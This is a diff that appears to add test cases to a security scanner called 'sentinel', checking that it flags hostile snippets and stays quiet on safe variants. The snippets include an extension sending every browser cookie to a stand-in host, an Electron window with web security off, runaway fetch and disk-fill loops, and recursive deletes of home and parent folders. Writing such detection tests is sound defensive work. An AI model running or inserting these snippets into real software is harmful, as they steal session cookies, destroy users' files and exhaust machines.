@@ -207,3 +207,54 @@ test('secrets passed through joins and defaults: a gem credentials file, a token
   has(doctor('https://board.team-x.invalid/v2/health'), 'warning sentinel/secret-exfiltration scripts/doctor.sh:5');
   quiet(doctor('https://api.github.com/user'));
 });
+
+test("an Electron window open to its pages, and an extension's whole cookie jar sent out", () => {
+  const win = (ws: string) =>
+    script('snippets/window.js', `const win = new BrowserWindow({\n  webPreferences: {\n    nodeIntegration: true,\n    webSecurity: ${ws},\n  },\n});\n`);
+  has(win('false'), 'error sentinel/defence-off snippets/window.js:4');
+  quiet(win('true'));
+  const ext = (filter: string) =>
+    script(
+      'extension/background.js',
+      `const SYNC = "https://sync.tabs-x.invalid";\nasync function push() {\n  const jar = await chrome.cookies.getAll(${filter});\n  await fetch(SYNC + "/s", { method: "PUT", body: JSON.stringify(jar) });\n}\n`,
+    );
+  has(ext('{}'), 'error sentinel/secret-exfiltration extension/background.js:4');
+});
+
+test('floods: a worker that starts copies of itself in its endless loop, a disk fill that stops only when the disk is full', () => {
+  const js = (call: string) =>
+    script('scripts/probe.mjs', `let n = 4;\nasync function worker(id) {\n  for (;;) {\n    await fetch(process.argv[2]);\n    ${call}\n  }\n}\nworker(1);\n`);
+  has(js('worker(++n);'), 'error sentinel/resource-flood scripts/probe.mjs:2');
+  quiet(js('await new Promise((r) => setTimeout(r, 60000));'));
+  const py = (on: string) =>
+    script(
+      'scripts/reserve.py',
+      `import os\nblock = os.urandom(1 << 20) * 64\ni = 0\nwhile True:\n    try:\n        with open(f"r{i:06d}.bin", "wb") as fh:\n            fh.write(block)\n    except OSError:\n        ${on}\n    i += 1\n`,
+    );
+  has(py('break'), 'error sentinel/resource-flood scripts/reserve.py:4');
+  const sh = (extra: string) =>
+    script(
+      'scripts/fill.sh',
+      `#!/bin/bash\ni=0\nwhile :; do\n  i=$((i + 1))\n  dd if=/dev/zero of="/var/tmp/.c/blk.$i" bs=1M count=1024\n  used=$(df --output=pcent / | tail -1)\n${extra}done\n`,
+    );
+  has(sh(''), 'error sentinel/resource-flood scripts/fill.sh:3');
+  // (a check of the free space that ends the loop bounds it)
+  quiet(sh('  [ "${used%\\%}" -gt 90 ] && break\n'));
+});
+
+test("a home folder's listing filtered and deleted, and a parent named through Node's path functions imported by name", () => {
+  has(
+    script(
+      'scripts/reset.ps1',
+      'Get-ChildItem -Path $HOME -Force -Directory |\n  Where-Object { $keep -notcontains $_.Name } |\n  Remove-Item -Recurse -Force\n',
+    ),
+    'error sentinel/silent-delete scripts/reset.ps1:1',
+  );
+  const js = (climb: string) =>
+    script(
+      'scripts/clean.mjs',
+      `import { readdirSync, rmSync } from "node:fs";\nimport { join, resolve } from "node:path";\nconst ws = ${climb};\nfor (const entry of readdirSync(ws)) {\n  rmSync(join(ws, entry), { recursive: true });\n}\n`,
+    );
+  has(js('resolve(process.cwd(), "..")'), 'error sentinel/silent-delete scripts/clean.mjs:5');
+  quiet(js('resolve(process.cwd(), "dist")'));
+});
